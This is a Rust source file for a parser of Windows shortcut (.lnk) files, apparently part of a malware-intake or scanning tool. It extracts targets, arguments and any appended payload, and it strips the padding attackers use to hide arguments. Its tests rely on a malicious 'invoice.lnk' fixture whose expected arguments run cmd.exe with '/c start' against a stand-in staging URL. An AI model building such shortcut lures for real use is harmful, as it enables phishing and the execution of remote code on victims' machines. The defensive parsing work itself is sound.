//! A bounded reader of [MS-SHLLINK]: every field is optional to it, and what it cannot place it leaves to the scan
//! of the raw bytes.

use encoding_rs::{UTF_16LE, WINDOWS_1252};
use jiff::Timestamp;
use vauban_intake::{Budget, Problem};
use vauban_model::{Observable, ObservableKind};

use crate::{Child, Context, Finding, Item, Passage, Reader, Sink, epoch::FROM_1601};

/// The size of the header and the class identifier behind it (section 2.1).
const MAGIC: &[u8] = b"\x4c\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46";
const HEADER: usize = 76;
/// Bytes behind the last block that are worth an item: less is padding.
const SMALLEST_PAYLOAD: usize = 16;

/// Reads shortcuts.
pub(crate) struct Lnk;

impl Reader for Lnk {
    fn name(&self) -> &'static str {
        "lnk"
    }

    fn recognises(&self, item: &Item<'_>) -> bool {
        item.has_magic(0, MAGIC)
    }

    fn read(&self, item: &Item<'_>, budget: &Budget, sink: &mut dyn Sink) -> Result<(), Problem> {
        let bytes = item.bytes;
        let context = Context { exposure: None, at: file_time(bytes, 44) };
        sink.passage(Passage { bytes, offset: Some(0), how: &[], context });
        let mut lines = Vec::new();
        let outcome = fields(bytes, budget, &mut lines);
        let text: String = lines.iter().map(|(what, value)| format!("{what}: {value}\n")).collect();
        if !text.is_empty() {
            sink.passage(Passage { bytes: text.as_bytes(), offset: None, how: &[], context });
        }
        let mut named = Vec::new();
        for (_, path) in lines.iter().filter(|(what, _)| matches!(*what, "target" | "share" | "relative path")) {
            let name = path.rsplit(['\\', '/']).next().unwrap_or_default();
            if !name.is_empty() && !named.contains(&name) {
                named.push(name);
                let observable = Observable::new(ObservableKind::FileName, name);
                sink.observable(Finding { observable, offset: None, how: &[], context, excerpt: path });
            }
        }
        let end = outcome?;
        let rest = bytes.get(end..).unwrap_or_default();
        if rest.len() >= SMALLEST_PAYLOAD {
            // A script or a document behind the shortcut, which its own arguments cut out and start.
            budget.spend_entry()?;
            sink.child(Child { segment: "appended data", name: "", media_type: "", bytes: rest, context });
        }
        Ok(())
    }
}

/// Reads all fields in their order and returns where they end.
fn fields(bytes: &[u8], budget: &Budget, lines: &mut Vec<(&'static str, String)>) -> Result<usize, Problem> {
    const STRINGS: [(u32, &str); 5] =
        [(4, "description"), (8, "relative path"), (0x10, "working folder"), (0x20, "arguments"), (0x40, "icon")];
    let cut = || Problem::corrupt("the shortcut is cut short");
    let flags = long(bytes, 20).ok_or_else(cut)?;
    let mut at = HEADER;
    if flags & 1 != 0 {
        let size = word(bytes, at).ok_or_else(cut)?;
        at = at.saturating_add(2).saturating_add(usize::from(size));
    }
    if flags & 2 != 0 {
        let size = long(bytes, at).and_then(|size| usize::try_from(size).ok()).ok_or_else(cut)?;
        let info = bytes.get(at..at.saturating_add(size)).ok_or_else(cut)?;
        link_info(info, lines);
        at = at.saturating_add(size);
    }
    let wide = flags & 0x80 != 0;
    for (flag, what) in STRINGS {
        budget.check_time()?;
        if flags & flag == 0 {
            continue;
        }
        let count = usize::from(word(bytes, at).ok_or_else(cut)?);
        let start = at.saturating_add(2);
        at = start.saturating_add(if wide { count.saturating_mul(2) } else { count });
        let raw = bytes.get(start..at.min(bytes.len())).unwrap_or_default();
        let encoding = if wide { UTF_16LE } else { WINDOWS_1252 };
        push(lines, what, &encoding.decode_without_bom_handling(raw).0);
        if at > bytes.len() {
            return Err(cut());
        }
    }
    while let Some(size) = long(bytes, at).and_then(|size| usize::try_from(size).ok()) {
        budget.check_time()?;
        // A size below four ends the list (section 2.5).
        if size < 4 {
            return Ok(at.saturating_add(4));
        }
        let Some(block) = bytes.get(at..at.saturating_add(size)) else { return Err(cut()) };
        extra(block, lines);
        at = at.saturating_add(size);
    }
    Ok(at.min(bytes.len()))
}

/// Where the target lies (section 2.3): a path on a volume, or on a share of the network.
fn link_info(info: &[u8], lines: &mut Vec<(&'static str, String)>) {
    let offset = |at: usize| long(info, at).and_then(|offset| usize::try_from(offset).ok());
    let text =
        |offset: Option<usize>| offset.filter(|offset| *offset > 0).map(|at| narrow(info, at)).unwrap_or_default();
    let flags = long(info, 8).unwrap_or(0);
    let long_header = offset(4).is_some_and(|size| size >= 0x24);
    let suffix = match offset(32).filter(|_| long_header) {
        Some(at) if at > 0 => wide(info, at),
        _ => text(offset(24)),
    };
    if flags & 1 != 0 {
        let base = match offset(28).filter(|_| long_header) {
            Some(at) if at > 0 => wide(info, at),
            _ => text(offset(16)),
        };
        push(lines, "target", &format!("{base}{suffix}"));
        if let Some(serial) = offset(12).and_then(|volume| long(info, volume.checked_add(8)?)) {
            push(lines, "volume serial", &format!("{serial:08X}"));
        }
    }
    if flags & 2 != 0
        && let Some(network) = offset(20)
    {
        let share = long(info, network.saturating_add(8))
            .and_then(|name| network.checked_add(usize::try_from(name).ok()?))
            .map(|at| narrow(info, at))
            .unwrap_or_default();
        push(lines, "share", &if suffix.is_empty() { share } else { format!("{share}\\{suffix}") });
    }
}

/// The blocks behind the strings that hold text (section 2.5).
fn extra(block: &[u8], lines: &mut Vec<(&'static str, String)>) {
    match long(block, 4) {
        Some(0xa000_0001) => push(lines, "target by environment", &either(block)),
        Some(0xa000_0006) => push(lines, "installer component", &either(block)),
        Some(0xa000_0007) => push(lines, "icon by environment", &either(block)),
        Some(0xa000_0003) => push(lines, "machine", &narrow(block, 16)),
        _ => {}
    }
}

/// A path written twice: in 260 bytes, then in 260 units of UTF-16, which wins when it is there.
fn either(block: &[u8]) -> String {
    let unicode = wide(block, 268);
    if unicode.is_empty() { narrow(block, 8) } else { unicode }
}

fn push(lines: &mut Vec<(&'static str, String)>, what: &'static str, value: &str) {
    // Attackers push the arguments out of sight with hundreds of spaces; only what is said counts.
    let value = value.trim_matches(|c: char| c.is_whitespace() || c == '\0');
    if !value.is_empty() {
        lines.push((what, value.to_owned()));
    }
}

fn narrow(bytes: &[u8], at: usize) -> String {
    let rest = bytes.get(at..).unwrap_or_default();
    let end = memchr::memchr(0, rest).unwrap_or(rest.len());
    WINDOWS_1252.decode_without_bom_handling(rest.get(..end).unwrap_or_default()).0.into_owned()
}

fn wide(bytes: &[u8], at: usize) -> String {
    let rest = bytes.get(at..).unwrap_or_default();
    let units = rest.chunks_exact(2).position(|unit| unit == [0, 0]).unwrap_or(rest.len() / 2);
    UTF_16LE.decode_without_bom_handling(rest.get(..units.saturating_mul(2)).unwrap_or_default()).0.into_owned()
}

/// A time in tenths of microseconds since 1601.
fn file_time(bytes: &[u8], at: usize) -> Option<Timestamp> {
    let ticks = u64::from_le_bytes(bytes.get(at..at.checked_add(8)?)?.try_into().ok()?);
    let seconds = i64::try_from(ticks / 10_000_000).ok()?.checked_sub(FROM_1601)?;
    if ticks == 0 { None } else { Timestamp::from_second(seconds).ok() }
}

fn word(bytes: &[u8], at: usize) -> Option<u16> {
    Some(u16::from_le_bytes(bytes.get(at..at.checked_add(2)?)?.try_into().ok()?))
}

fn long(bytes: &[u8], at: usize) -> Option<u32> {
    Some(u32::from_le_bytes(bytes.get(at..at.checked_add(4)?)?.try_into().ok()?))
}

#[cfg(test)]
mod tests {
    use std::fs;

    use vauban_model::Reason;

    use super::*;
    use crate::testing::{check_fixtures, fixtures, read};

    #[test]
    fn fixtures_read_as_expected() {
        check_fixtures(&Lnk);
    }

    #[test]
    fn what_it_starts_is_said() {
        let bytes = fs::read(fixtures("lnk").join("invoice.lnk")).unwrap();
        let (result, transcript) = read(&Lnk, "invoice.lnk", &bytes);
        assert_eq!(result, Ok(()));
        let text = &transcript.passages[1];
        for wanted in [
            "target: C:\\Windows\\System32\\cmd.exe\n",
            "arguments: /c start http://shortcut-stage.example/run\n",
            "machine: ws-042\n",
            "target by environment: %windir%\\system32\\cmd.exe\n",
        ] {
            assert!(text.contains(wanted), "{wanted}: {text}");
        }
        assert_eq!(transcript.observables, ["cmd.exe"]);
        assert_eq!(transcript.children[0].0, "appended data");
    }

    #[test]
    fn a_cut_shortcut_is_corrupt_and_keeps_what_came_before() {
        let bytes = fs::read(fixtures("lnk").join("invoice.lnk")).unwrap();
        let at = memchr::memmem::find(&bytes, b"s\0h\0o\0r\0t\0c\0u\0t\0").unwrap();
        let (result, transcript) = read(&Lnk, "invoice.lnk", &bytes[..at + 20]);
        assert_eq!(result.unwrap_err().reason, Reason::Corrupt);
        assert!(transcript.passages[1].contains("target: C:\\Windows\\System32\\cmd.exe\n"));
    }
}
